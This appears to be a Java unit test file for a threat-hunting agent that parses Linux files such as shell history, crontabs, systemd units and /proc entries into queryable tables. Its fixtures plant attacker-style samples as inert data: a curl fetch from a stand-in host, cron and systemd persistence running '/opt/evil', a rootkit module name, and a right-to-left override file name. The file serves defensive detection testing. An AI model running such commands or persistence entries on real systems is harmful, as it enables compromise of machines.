package io.hunt.agent.builtin;

import static org.assertj.core.api.Assertions.assertThat;

import io.hunt.agent.machine.Machine;
import io.hunt.agent.query.QueryEngine.QuerySession;
import io.hunt.agent.query.QueryResult;
import io.hunt.agent.query.QueryResult.PartialRows;
import io.hunt.agent.query.QueryResult.Rows;
import io.hunt.agent.query.QueryResult.UnsupportedTable;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

@EnabledOnOs(OS.LINUX)
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class LinuxTablesTest {

    @TempDir
    Path root;

    @BeforeEach
    void addAUser() throws IOException {
        write("etc/hosts", "127.0.0.1 localhost\n");
        write("etc/passwd", "eve:x:1007:1007:Eve:" + root + "/home/eve:/bin/sh\n");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "home/eve/.bash_history|ls\\ncurl http://evil.example/a\\n|SELECT uid, time, command FROM shell_history WHERE command LIKE 'curl%'|{`uid`:`1007`,`time`:`0`,`command`:`curl http://evil.example/a`}",
                "home/eve/.bash_history|#1700000000\\ncurl x\\n|SELECT time, command FROM shell_history|{`time`:`1700000000`,`command`:`curl x`}",
                "home/eve/.zsh_history|: 1700000000:0;curl x\\n|SELECT time, command FROM shell_history|{`time`:`1700000000`,`command`:`curl x`}",
                "home/eve/.ash_history|wget x\\n|SELECT command FROM shell_history|{`command`:`wget x`}",
                "etc/crontab|# c\\nPATH=/bin\\n5 * * * * root /opt/evil -d\\n|SELECT minute, command FROM crontab|{`minute`:`5`,`command`:`root /opt/evil -d`}",
                "etc/cron.d/evil|@reboot root /opt/evil\\n|SELECT event, minute, command FROM crontab|{`event`:`@reboot`,`minute`:``,`command`:`root /opt/evil`}",
                "var/spool/cron/crontabs/eve|* * * * * /opt/evil\\n|SELECT command FROM crontab|{`command`:`/opt/evil`}",
                "etc/systemd/system/evil.service|[Service]\\nExecStart=-/opt/evil \\\\\\n --x\\n|SELECT name, args FROM startup_items WHERE args <> ''|{`name`:`evil.service`,`args`:`/opt/evil   --x`}",
                "etc/systemd/system/good.service.d/x.conf|[Service]\\nExecStartPre=+/opt/evil\\n|SELECT args FROM startup_items WHERE args <> ''|{`args`:`/opt/evil`}",
                "home/eve/.config/systemd/user/a.service|ExecStop=/opt/evil\\n|SELECT username, args FROM startup_items WHERE args <> ''|{`username`:`eve`,`args`:`/opt/evil`}",
                "home/eve/.config/autostart/a.desktop|Exec=/opt/evil -d\\n|SELECT path, args, username FROM startup_items|{`path`:`/opt/evil`,`args`:`-d`,`username`:`eve`}",
                "etc/resolv.conf|# c\\nnameserver 192.0.2.7\\nsearch evil.example b.example\\n|SELECT id, type, address FROM dns_resolvers WHERE id = 0|{`id`:`0`,`type`:`nameserver`,`address`:`192.0.2.7`}",
                "proc/net/route|Iface D G F\\neth0 00000000 070200C0 0003 0 0 100 00000000 0 0 0\\n|SELECT gateway, netmask, interface FROM routes|{`gateway`:`192.0.2.7`,`netmask`:`0`,`interface`:`eth0`}",
                "proc/net/arp|IP\\n192.0.2.7 0x1 0x2 02:00:00:00:00:01 * eth0\\n|SELECT address, mac FROM arp_cache|{`address`:`192.0.2.7`,`mac`:`02:00:00:00:00:01`}",
                "proc/mounts|/dev/sda1 /a\\\\040b ext4 rw 0 0\\n|SELECT path, type FROM mounts|{`path`:`/a b`,`type`:`ext4`}",
                "proc/modules|diamorphine 16384 0 - Live 0x0 (OE)\\n|SELECT name, size FROM kernel_modules|{`name`:`diamorphine`,`size`:`16384`}",
                "proc/7/maps|00400000-00452000 r-xp 0a 08:02 17 /opt/e vil.so\\n00452000-00453000 r-xp 0a 08:02 17 /opt/e vil.so\\n|SELECT pid, path FROM process_memory_map|{`pid`:`7`,`path`:`/opt/e vil.so`}"
            })
    void a_table_shows_what_its_files_hold(String file, String content, String sql, String row) throws IOException {
        write(file, content.replace("\\n", "\n").replace("\\\\", "\\"));

        assertThat(found(run(sql))).containsExactly(row.replace('`', '"'));
    }

    @ParameterizedTest
    @CsvSource({
        "home/eve/.bash_history, shell_history",
        "home/eve/.zsh_history, shell_history",
        "etc/crontab, crontab",
        "etc/resolv.conf, dns_resolvers",
        "etc/passwd, users",
        "etc/passwd, shell_history",
        "etc/passwd, startup_items",
        "proc/net/tcp6, process_open_sockets",
        "proc/net/udp, process_open_sockets",
        "proc/7/maps, process_memory_map",
        "proc/7/cmdline, processes"
    })
    void a_table_of_a_file_that_is_too_long_is_incomplete(String file, String table) throws IOException {
        write("proc/net/tcp", "");
        write("proc/7/status", "Name: sh\n");
        write(file, "x y z\n".repeat(8 * 1024 * 1024 / 6 + 1));

        assertThat(run("SELECT 1 FROM " + table + " LIMIT 0")).isInstanceOf(PartialRows.class);
        assertThat(run("SELECT 1 FROM etc_hosts LIMIT 0")).isInstanceOf(Rows.class);
    }

    @Test
    void a_mapping_behind_the_first_mebibyte_is_found() throws IOException {
        String line = "00400000-00452000 r-xp 0a 08:02 17 /lib/x.so\n";
        write("proc/7/maps", line.repeat(1024 * 1024 / line.length()) + line.replace("x.so", "evil.so"));

        assertThat(found(run("SELECT path FROM process_memory_map WHERE path LIKE '%evil%'")))
                .containsExactly("{\"path\":\"/lib/evil.so\"}");
    }

    @Test
    void a_connection_behind_the_first_mebibyte_is_found() throws IOException {
        String line = "0: 0100007F:0016 %s:01BB 01 0:0 0:0 0 0 0 1 1\n";
        write(
                "proc/net/tcp",
                "head\n" + line.formatted("0100007F").repeat(1024 * 1024 / line.length()) + line.formatted("070200C0"));

        assertThat(found(run("SELECT pid FROM process_open_sockets WHERE remote_address = '192.0.2.7'")))
                .hasSize(1);
    }

    @Test
    void sockets_that_cannot_be_read_make_their_table_incomplete() throws IOException {
        assertThat(run("SELECT 1 FROM process_open_sockets")).isInstanceOf(PartialRows.class);

        write("proc/net/tcp", "head\n");
        assertThat(run("SELECT 1 FROM process_open_sockets")).isInstanceOf(Rows.class);

        Files.createSymbolicLink(root.resolve("proc/net/udp"), root.resolve("proc/net/udp"));
        assertThat(run("SELECT 1 FROM process_open_sockets")).isInstanceOf(PartialRows.class);
    }

    @Test
    void a_file_beyond_the_most_of_one_walk_makes_the_tables_of_files_incomplete() throws IOException {
        // Without accounts, so that no directory of an account counts.
        Files.deleteIfExists(root.resolve("etc/passwd"));
        Files.createDirectories(root.resolve("opt/a/b"));
        // Together with the two directories, this is the largest number of files of one scan.
        for (int i = 0; i < 19_998; i++) {
            Files.createFile(root.resolve("opt/a/b/" + i));
        }
        String walk = "SELECT 1 FROM %s WHERE path LIKE '" + root + "/opt/a/%%%%' LIMIT 0";
        assertThat(run(walk.formatted("file"))).isInstanceOf(Rows.class);

        Files.createFile(root.resolve("opt/a/b/more"));
        assertThat(run(walk.formatted("file"))).isInstanceOf(PartialRows.class);
        assertThat(run(walk.formatted("hash"))).isInstanceOf(PartialRows.class);
    }

    @Test
    void a_walk_below_a_named_directory_ends_at_a_number_of_files_and_counts_that_there_are_more() throws IOException {
        Files.createDirectories(root.resolve("opt/a/b"));
        String sql = "SELECT count(*) AS files FROM file f WHERE f.directory LIKE '" + root + "/opt%' AND f.path <> '"
                + root + "/opt'";
        for (int i = 0; i < 8_100; i++) {
            Files.createFile(root.resolve("opt/a/b/" + i));
        }

        try (QuerySession session = engine(Machine.Kind.LINUX).examine(List.of(sql))) {
            assertThat(found(session.run(sql, 1))).singleElement().asString().contains("8001");
            assertThat(session.searched(sql))
                    .hasValueSatisfying(coverage -> assertThat(coverage.cut()).isEqualTo(1));
        }
    }

    @Test
    void a_mount_below_a_named_directory_is_not_entered() throws IOException {
        write("opt/local/evil", "x");
        write("opt/share/evil", "x");
        write("proc/mounts", "server:/ " + root + "/opt/share nfs4 rw 0 0\n");

        assertThat(found(run("SELECT f.path FROM file f WHERE f.filename = 'evil' AND f.path <> '" + root + "/opt'")))
                .containsExactly("{\"path\":\"" + root + "/opt/local/evil\"}");
    }

    @Test
    void a_fifo_is_not_opened_and_a_missing_file_is_no_gap() throws Exception {
        Files.createDirectories(root.resolve("home/eve"));
        assertThat(new ProcessBuilder(
                                "mkfifo", root.resolve("home/eve/.bash_history").toString())
                        .start()
                        .waitFor())
                .isZero();

        assertThat(run("SELECT 1 FROM shell_history UNION SELECT 1 FROM crontab UNION SELECT 1 FROM startup_items"))
                .isEqualTo(new Rows(List.of(), false));
    }

    @Test
    void null_is_sent_as_null_and_texts_as_they_are() throws IOException {
        write("home/eve/.bash_history", "invoice\u202efdp.exe \n");

        assertThat(found(run("SELECT NULL AS a, '' AS b, command FROM shell_history")))
                .containsExactly("{\"a\":null,\"b\":\"\",\"command\":\"invoice\u202efdp.exe \"}");
    }

    @ParameterizedTest
    @EnumSource(names = {"MACOS", "WINDOWS"})
    void a_statement_about_a_table_that_is_not_collected_is_incomplete(Machine.Kind kind) {
        assertThat(run(kind, "SELECT path FROM startup_items")).isInstanceOf(PartialRows.class);
        assertThat(run(kind, "SELECT gateway FROM routes")).isInstanceOf(PartialRows.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"apt_sources", "chrome_extensions", "docker_containers", "nonsense"})
    void a_statement_about_a_table_that_is_absent_is_unsupported(String table) {
        assertThat(run("SELECT 1 FROM " + table)).isInstanceOf(UnsupportedTable.class);
    }

    private void write(String file, String content) throws IOException {
        Path path = root.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, content);
    }

    private QueryResult run(String sql) {
        return run(Machine.Kind.LINUX, sql);
    }

    private QueryResult run(Machine.Kind kind, String sql) {
        try (QuerySession querySession = engine(kind).examine(List.of(sql))) {
            return querySession.run(sql, 1_000);
        }
    }

    private BuiltInEngine engine(Machine.Kind kind) {
        var machine = new Machine(
                kind, root, root.resolve("proc"), root.resolve("etc/hosts"), root.resolve("etc/passwd"), List.of());
        return new BuiltInEngine(machine, Duration.ofSeconds(30), Duration.ofSeconds(20));
    }

    private static List<String> found(QueryResult result) {
        assertThat(result).isInstanceOf(Rows.class);
        return ((Rows) result).rows().stream().map(row -> row.toStringUtf8()).toList();
    }
}
